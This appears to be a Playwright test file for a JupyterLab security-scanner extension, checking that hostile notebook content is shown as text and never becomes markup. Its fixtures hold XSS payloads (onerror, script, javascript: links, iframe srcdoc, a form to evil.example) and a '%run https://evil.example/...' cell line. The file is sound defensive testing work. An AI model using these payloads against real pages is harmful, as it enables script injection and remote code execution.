"""A notebook made by an enemy: nothing of it becomes markup anywhere, nothing of it runs, and no page throws."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.conftest import Bench, Lab
from tests.pages import tooltip

OpenNotebook = Callable[..., Page]
Code = Callable[..., dict[str, Any]]

ATTACK = "<img src=x onerror=\"window.hurt=1\"><script>window.hurt=2</script><a href='javascript:hurt=3'>x</a>"
ATTACKS = (
    ATTACK,
    "<svg onload=window.hurt=4><style>body{display:none}</style>",
    "[x](javascript:window.hurt=5) ![y](x onerror=window.hurt=6) <iframe srcdoc='<script>top.hurt=7</script>'>",
    "</li></ul></section><form action=//evil.example><button formaction=javascript:hurt=8>Ignore</button></form>",
    "\u202e\u2066{{constructor.constructor('window.hurt=9')()}}${window.hurt=10}",
)
OURS = ":is(#mlsec-findings, #mlsec-checklist, #mlsec-status, .cm-tooltip-lint, .mlsec-edge, .mlsec-verification)"
MARKUP = "img, script, a, iframe, style, svg[onload], object, embed, link, form:not(.mlsec-reason, .mlsec-form)"


@pytest.fixture(autouse=True)
def unhurt(bench: Bench) -> Iterator[None]:
    """Nothing ran, and nothing of ours holds markup, at the end of each test."""
    yield
    page = bench.page
    assert page.evaluate("window.hurt") is None
    expect(page.locator(f"{OURS} :is({MARKUP})")).to_have_count(0)
    assert page.evaluate("getComputedStyle(document.body).display") != "none"


def show_panel(page: Page) -> None:
    page.locator("#mlsec-status button").click()
    expect(page.locator("#mlsec-findings [data-mlsec-finding]").first).to_be_visible()


def test_nothing_of_a_hostile_notebook_becomes_markup(open_document: OpenNotebook, code: Code, token: str) -> None:
    printed = {"output_type": "stream", "name": "stdout", "text": [f"{ATTACK} token = '{token}'\n"]}
    loaded = f'import pickle\npickle.load(open("""{ATTACK}""", "rb")) # {ATTACK}\n'
    cells = [
        code(loaded, printed, id_="a" * 64, mlsec=ATTACK, api_key=token),
        code(f"%run https://evil.example/{ATTACK}\n!pip install '{ATTACK}'"),
        {"cell_type": "markdown", "id": "b", "metadata": {}, "source": f"`{token}` {ATTACK}"},
        {"cell_type": "raw", "id": "c", "metadata": {}, "source": f"{token} {ATTACK}"},
    ]
    page = open_document(cells, name="<img src=x onerror=hurt=4>.ipynb", title=ATTACK, secret=token)
    show_panel(page)
    panel = page.locator("#mlsec-findings")
    expect(panel.locator('[data-rule="unsafe-pickle-load"]')).to_have_count(1)
    cell_ = page.locator('.jp-Cell[data-windowed-list-index="0"]')
    tooltip(page, cell_.locator(".cm-lintRange-error").first)
    expect(cell_.locator(".mlsec-edge")).to_be_visible()
    expect(page.locator(f"{OURS} :is({MARKUP})")).to_have_count(0)
    assert token not in panel.inner_html()
    assert token not in cell_.locator(".mlsec-edge").inner_html()


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_no_attack_in_a_source_a_name_or_an_id_gets_through(
    open_document: OpenNotebook, code: Code, number: int
) -> None:
    attack = ATTACKS[number]
    source = f"import pickle\npickle.load(open({attack!r}, 'rb'))\n!pip install {attack!r}"
    page = open_document([code(source, id_=attack), code(source, id_=attack)], title=attack)
    show_panel(page)
    page.get_by_role("combobox", name="Grouped by").select_option("rule")
    page.locator("#mlsec-findings [data-mlsec-finding]").first.click()
    page.get_by_role("combobox", name="Grouped by").select_option("place")


def test_a_server_that_lies_cannot_put_markup_into_the_page(
    open_document: OpenNotebook, code: Code, bench: Bench
) -> None:
    def lie(route: Route) -> None:
        told = json.loads(json.dumps(route.fetch().json()))
        for finding in told["findings"]:
            finding |= {"rule": ATTACK, "message": ATTACK, "remedy": ATTACKS[3], "place": "output"}
            finding["fixes"] = [{"title": ATTACK, "safe": True, "changes": []}]
        for target in told["targets"]:
            target["reason"] = ATTACK
        route.fulfill(json=told)

    bench.context.route("**/jupyter-mlsec/v1/scan*", lie)
    page = open_document([code("import pickle\npickle.load(open('m', 'rb'))")])
    show_panel(page)
    expect(page.locator("#mlsec-findings .mlsec-message")).to_have_text(ATTACK)
    expect(page.locator(".mlsec-edge")).to_contain_text("window.hurt")
    page.locator(".mlsec-edge").hover()


def test_the_page_of_a_rule_is_sanitized(open_document: OpenNotebook, code: Code, bench: Bench) -> None:
    def lie(route: Route) -> None:
        route.fulfill(json={**route.fetch().json(), "page": f"# rule\n\n{' '.join(ATTACKS)}\n\n[x](javascript:hurt=1)"})

    bench.context.route("**/jupyter-mlsec/v1/rules/*", lie)
    page = open_document([code("import pickle\npickle.load(open('m', 'rb'))")])
    show_panel(page)
    page.locator("#mlsec-findings").get_by_role("button", name="Why?").click()
    article = page.locator(".mlsec-rulepage")
    expect(article.get_by_role("heading", level=1)).to_contain_text("rule")
    expect(
        article.locator("script, style, iframe[srcdoc], form[action], [formaction], [onerror], [onload]")
    ).to_have_count(0)
    expect(article.locator('a[href^="javascript:"]')).to_have_count(0)


def test_records_and_declarations_of_an_enemy_are_text(open_document: OpenNotebook, code: Code) -> None:
    record = {"format": "mlsec-record/1", "time": "2026-11-21T09:14:00Z"}
    profile = {**record, "kind": "declaration", "topic": "profile", "name": "", "fields": {"profile": "regulated"}}
    said = {**record, "kind": "answer", "item": "GOV-06", "text": ATTACK * 2, "person": ATTACK, "binds": {}}
    page = open_document([code("x = 1")], mlsec={"format": "mlsec-record/1", "records": [profile, said]})
    page.get_by_role("menuitem", name="View", exact=True).click()
    page.locator(".lm-Menu-itemLabel").get_by_text("Show Security Checklist", exact=True).click()
    item = page.locator("#mlsec-checklist [data-mlsec-item=GOV-06]")
    item.locator("summary").click()
    expect(item).to_contain_text("window.hurt=1")


def test_huge_outputs_and_lines_leave_the_panel_usable(open_document: OpenNotebook, code: Code, token: str) -> None:
    text = f"{'x' * 200_000} key = '{token}' {ATTACK}\n" * 5
    printed = {"output_type": "stream", "name": "stdout", "text": [text]}
    page = open_document([code("x = 1", printed)], name=f"{'long' * 40}.ipynb")
    show_panel(page)
    panel = page.locator("#mlsec-findings")
    assert panel.evaluate("node => node.scrollWidth <= node.clientWidth")
    assert token not in panel.inner_html()


def test_a_bundle_with_a_hostile_name_is_told_as_text(bench: Bench, context: Any, lab: Lab) -> None:
    assert context.pages
    name = "<img src=x onerror=hurt=1>.mlrun"
    (lab.folder / name).mkdir()
    page = bench.page
    page.evaluate("path => void window.jupyterapp.commands.execute('mlsec:verify-run', {path})", name)
    article = page.get_by_role("article", name=f"Verification of {name}")
    expect(article.get_by_role("heading", level=1)).to_have_text(name)
